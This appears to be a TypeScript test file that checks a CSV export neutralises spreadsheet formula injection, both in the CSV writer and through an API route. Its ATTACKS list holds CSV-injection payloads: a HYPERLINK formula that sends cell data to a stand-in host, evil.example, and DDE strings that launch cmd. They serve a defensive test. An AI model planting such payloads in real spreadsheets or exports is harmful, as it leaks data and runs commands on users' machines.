import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../src/rest/csv/csv-format.js';
import { callNumberAnswers } from '../support/answers/call-number-answers.js';
import { createFakeSource } from '../support/fake-source.js';
import { createTestApp } from '../support/app.js';
import { TEST_KEY } from '../support/kit.js';
import { readCsv } from '../support/csv-read.js';
import { canonicalPhrase } from '../../src/domain/source-call.js';

// CSV injection (OWASP): a cell that starts with = + - @ (or tab, CR) runs as a formula when Excel opens the
// file. Phrases are user input that comes back in exports, so every text cell is neutralised.
const ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('CSV export neutralises formulas', () => {
  it.each(ATTACKS)('a text cell %j starts with an apostrophe and reads back whole', (attack) => {
    for (const dialect of ['excel', 'rfc4180'] as const) {
      const text = writeCsv({ columns: ['phrase', 'count'], rows: [[attack, 5]] }, dialect);
      const [, [cell, count]] = readCsv(text, dialect === 'excel' ? ';' : ',') as [string[], string[]];
      expect(cell).toBe(`'${attack}`);
      expect(count).toBe('5');
    }
  });

  it('leaves numbers (negative ones too) and ordinary text alone, and quotes separators and quotes', () => {
    const text = writeCsv({ columns: ['a', 'b', 'c', 'd'], rows: [[-1.5, 'купить; "дёшево"', 'a\nb', 'обычный']] }, 'excel');
    expect(text).toBe('\uFEFFa;b;c;d\r\n-1,5;"купить; ""дёшево""";"a\nb";обычный\r\n');
  });

  it('through the route: a phrase posted as an attack comes back neutralised in top.csv', async () => {
    const app = createTestApp({ source: createFakeSource({ answers: callNumberAnswers, latencyMs: 0 }) });
    for (const attack of ATTACKS.slice(0, 4)) {
      const response = await app.fetch(
        new Request('http://localhost/v2/stats/top?format=csv', {
          method: 'POST',
          headers: { authorization: `Bearer ${TEST_KEY}`, 'content-type': 'application/json' },
          body: JSON.stringify({ phrase: attack }),
        }),
      );
      expect(response.status).toBe(200);
      const rows = readCsv(await response.text(), ';');
      const phrases = rows.slice(1).map((row) => row[1]!);
      expect(phrases.length).toBeGreaterThan(0);
      for (const phrase of phrases) expect(phrase).toMatch(/^[^=+\-@\t\r]/);
      // The source is asked the canonical phrase (lower case: issue 24, item 1), and its rows echo that.
      expect(phrases).toContain(`'${canonicalPhrase(attack)}`);
    }
  });
});
